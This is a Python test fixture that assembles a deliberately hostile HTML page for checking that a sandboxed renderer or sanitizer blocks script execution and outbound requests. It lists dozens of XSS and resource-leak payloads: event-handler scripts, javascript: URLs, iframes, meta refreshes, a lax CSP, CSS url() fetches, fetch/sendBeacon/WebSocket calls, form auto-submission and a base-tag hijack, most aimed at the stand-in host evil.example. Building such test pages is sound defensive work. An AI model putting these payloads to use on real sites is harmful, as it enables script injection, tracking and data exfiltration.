"""The worst page that we could write: everything in it tries to run, to ask elsewhere, or to reach who opened it. Synthetic."""

_RUNS = "document.title='RAN';new Image().src='http://evil.example:PORT/ran'"

PARTS = {
    "inline script": f"<script>{_RUNS}</script>",
    "outer script": "<script src='http://evil.example:PORT/s.js'></script>",
    "module": f"<script type=module>{_RUNS}</script>",
    "own script": "<script src='/files/own.js'></script>",
    "speculation": '<script type=speculationrules>{"prefetch":[{"urls":["http://evil.example:PORT/spec"]}]}</script>',
    "onerror": f'<img src=x onerror="{_RUNS}">',
    "onload": f'<svg onload="{_RUNS}"></svg>',
    "autofocus": f'<input autofocus onfocus="{_RUNS}">',
    "toggle": f'<details open ontoggle="{_RUNS}"></details>',
    "animation": f'<style>@keyframes k{{}}i{{animation:k 1ms}}</style><i onanimationstart="{_RUNS}">x</i>',
    "svg script": f"<svg><script>{_RUNS}</script></svg>",
    "math": "<math href='javascript:alert(1)'><mtext>x</mtext></math>",
    "srcdoc": f'<iframe srcdoc="<script>parent.{_RUNS}</script>"></iframe>',
    "frame": "<iframe src='http://evil.example:PORT/frame'></iframe>",
    "script frame": "<iframe src=\"javascript:parent.document.title='RAN'\"></iframe>",
    "data frame": "<iframe src='data:text/html,<script>alert(1)</script>'></iframe>",
    "room frame": "<iframe src='ROOM/about'></iframe>",
    "object": "<object data='http://evil.example:PORT/o' type='text/html'>x</object>",
    "embed": "<embed src='http://evil.example:PORT/e' type='image/svg+xml'>",
    "refresh": "<meta http-equiv=refresh content='0;url=http://evil.example:PORT/refresh'>",
    "script refresh": "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "lax policy": "<meta http-equiv=Content-Security-Policy content='default-src *; script-src * unsafe-inline'>",
    "icon": "<link rel=icon href='http://evil.example:PORT/icon'>",
    "style sheet": "<link rel=stylesheet href='http://evil.example:PORT/s.css'>",
    "preload": "<link rel=preload as=image href='http://evil.example:PORT/preload'>",
    "prefetch": "<link rel=prefetch href='http://evil.example:PORT/prefetch'>",
    "module preload": "<link rel=modulepreload href='http://evil.example:PORT/m.js'>",
    "prerender": "<link rel=prerender href='http://evil.example:PORT/prerender'>",
    "manifest": "<link rel=manifest href='http://evil.example:PORT/manifest'>",
    "picture": "<img src='http://evil.example:PORT/img'>",
    "srcset": "<img srcset='http://evil.example:PORT/srcset 1x'>",
    "source": "<picture><source srcset='http://evil.example:PORT/source'><img src=''></picture>",
    "relative scheme": "<img src='//evil.example:PORT/relative'>",
    "room picture": "<img src='ROOM/static/icon.svg'>",
    "input": "<input type=image src='http://evil.example:PORT/input'>",
    "video": "<video autoplay src='http://evil.example:PORT/v' poster='http://evil.example:PORT/poster'></video>",
    "audio": "<audio autoplay src='http://evil.example:PORT/a'></audio>",
    "track": "<video><track default src='http://evil.example:PORT/track'></video>",
    "table": "<table background='http://evil.example:PORT/table'><tr><td>x</table>",
    "svg image": "<svg><image href='http://evil.example:PORT/svg'/><use href='http://evil.example:PORT/use#a'/></svg>",
    "svg old image": "<svg><image xlink:href='http://evil.example:PORT/svg2'/></svg>",
    "style": "<p style=\"background:url('http://evil.example:PORT/style')\">x</p>",
    "escaped style": "<p style=\"background:u\\72l('http://evil.example:PORT/escaped')\">x</p>",
    "import": "<style>@import 'http://evil.example:PORT/import';@import url(//evil.example:PORT/import2);</style>",
    "font": "<style>@font-face{font-family:f;src:url(http://evil.example:PORT/font)}b{font-family:f}</style><b>x</b>",
    "image set": "<style>body{background:image-set('http://evil.example:PORT/set' 1x)}</style>",
    "cursor": "<style>html{cursor:url(http://evil.example:PORT/cursor),auto;list-style:url(http://evil.example:PORT/list)}</style>",
    "noscript": "<noscript><img src='http://evil.example:PORT/noscript'></noscript>",
    "lazy": "<img loading=lazy src='http://evil.example:PORT/lazy'>",
    "attribution": "<img attributionsrc='http://evil.example:PORT/attribution' src='x.png'>",
    "requests": (
        "<script>fetch('http://evil.example:PORT/f');navigator.sendBeacon('http://evil.example:PORT/b');"
        "new WebSocket('ws://evil.example:PORT/w');new EventSource('http://evil.example:PORT/es');"
        "navigator.serviceWorker.register('/sw.js');localStorage.a=1;document.cookie='a=b'</script>"
    ),
    "windows": (
        "<script>window.open('http://evil.example:PORT/open');top.location='http://evil.example:PORT/top';"
        "if(opener)opener.location='http://evil.example:PORT/opener'</script>"
    ),
    "form": "<form id=f action='http://evil.example:PORT/form' method=post><input name=a><button id=send>go</button></form>",
    "form by script": "<script>document.forms[0].submit()</script>",
    "form to room": "<form action='ROOM/search'><input name=q value=x><button id=search formtarget=_blank>go</button></form>",
    "script link": "<a id=js href=\"javascript:document.title='RAN'\">js</a>",
    "new window": "<a id=blank target=_blank href='http://evil.example:PORT/blank'>blank</a>",
    "ping": "<a id=ping ping='http://evil.example:PORT/ping' href='#x'>ping</a>",
    "outside": "<a id=out href='http://evil.example:PORT/out'>out</a>",
    "base": "<base href='http://evil.example:PORT/' target=_blank>",
}

_LEAVES = {"refresh", "script refresh", "windows", "form by script", "base"}

CONNECTS = "<link rel=preconnect href='http://evil.example:PORT'><link rel=dns-prefetch href='//evil.example:PORT'>"
"""What no policy rules: only rewriting keeps it from connecting. So it is with a frame, for which Chromium opens a connection
before it asks the policy, and then sends nothing."""


def hostile_page(port: int, room: str, *, connects: bool = True, refreshes: bool = True) -> bytes:
    """Return the page; `port` is the canary's, `room` the reading room's origin."""
    left_out = (set() if refreshes else _LEAVES) | (set() if connects else {"frame"})
    chosen = [part for name, part in PARTS.items() if name not in left_out]
    parts = (CONNECTS if connects else "") + "".join(chosen)
    page = f"<!DOCTYPE html><html><head><title>Tenang</title></head><body><h1>Halaman</h1>{parts}<p>akhir</p></body></html>"
    return page.replace("PORT", str(port)).replace("ROOM", room).encode()
